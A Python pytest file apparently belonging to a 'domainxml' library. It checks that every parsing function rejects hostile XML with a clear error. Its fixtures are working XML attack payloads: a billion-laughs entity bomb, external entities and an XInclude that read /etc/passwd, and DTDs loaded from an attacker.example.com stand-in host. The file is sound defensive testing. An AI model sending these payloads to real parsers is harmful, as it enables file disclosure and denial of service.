"""Hostile input: DTDs, entities, huge, deep and broken documents are refused with a clear DomainXmlError."""
from __future__ import annotations

from collections.abc import Callable

import pytest

import domainxml as dx
from tests.domainxml.specs import desktop

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<domain><name>&lol9;</name><devices/></domain>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE domain [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<domain><name>&secret;</name><devices/></domain>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE domain SYSTEM "http://attacker.example.com/domain.dtd">
<domain><name>x</name><devices/></domain>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE domain [<!ENTITY % remote SYSTEM "http://attacker.example.com/x.dtd"> %remote;]>
<domain><devices/></domain>"""

HOSTILE = {
    "billion laughs": (BILLION_LAUGHS, "document type declaration"),
    "external entity": (EXTERNAL_ENTITY, "document type declaration"),
    "external DTD": (EXTERNAL_DTD, "document type declaration"),
    "parameter entity": (PARAMETER_ENTITY, "document type declaration|not well-formed"),
    "huge": ("<domain><devices>" + "<disk/>" * 700_000 + "</devices></domain>", "too large"),
    "deep": ("<domain>" + "<a>" * 5000 + "</a>" * 5000 + "</domain>", "not well-formed"),
    "broken": ("<domain><devices><disk></devices></domain>", "not well-formed.*mismatch"),
    "truncated": ("<domain><devices><disk type='file'", "not well-formed"),
    "empty": ("   ", "empty"),
    "undefined entity": ("<domain><name>&nope;</name></domain>", "not well-formed.*nope"),
    "unbound prefix": ("<domain><x:devices/></domain>", "not well-formed.*prefix"),
    "not utf-8": (b"<domain><name>\xff\xfe</name></domain>", "not well-formed"),
    "not text": (12345, "expected XML text"),
}

READERS: dict[str, Callable[[object], object]] = {
    "parse": dx.parse,
    "parse_xml": dx.parse_xml,
    "validate": dx.validate,
    "devices_hash": dx.devices_hash,
    "start_domain": dx.start_domain,
    "read_message": dx.read_message,
    "apply_hotplug": lambda text: dx.apply_hotplug(text, "<hotplug/>"),
}


@pytest.mark.parametrize("reader", sorted(READERS))
@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_every_reader_refuses_hostile_input(reader: str, case: str) -> None:
    document, message = HOSTILE[case]
    with pytest.raises(dx.DomainXmlError, match=message) as caught:
        READERS[reader](document)
    assert isinstance(caught.value, ValueError)
    assert "root:x:0:0" not in str(caught.value)
    assert len(str(caught.value)) < 300


def test_a_hostile_hotplug_message_is_refused_before_the_domain_changes() -> None:
    running = dx.start_domain(dx.build(desktop()))
    with pytest.raises(dx.DomainXmlError, match="document type declaration"):
        dx.apply_hotplug(running, EXTERNAL_ENTITY.replace("domain", "hotplug"))


def test_xinclude_is_not_processed() -> None:
    xml = ('<domain xmlns:xi="http://www.w3.org/2001/XInclude"><name><xi:include href="/etc/passwd" parse="text"/>'
           "</name><devices/></domain>")
    assert dx.parse(xml).name is None


def test_the_size_limit_can_be_lowered() -> None:
    with pytest.raises(dx.DomainXmlError, match="at most 100 are accepted"):
        dx.parse_xml("<domain>" + " " * 200 + "</domain>", max_bytes=100)


def test_a_large_but_reasonable_domain_is_accepted() -> None:
    xml = "<domain><devices>" + "<channel type='unix'><alias name='c'/></channel>" * 20_000 + "</devices></domain>"
    assert len(dx.parse(xml).devices) == 20_000
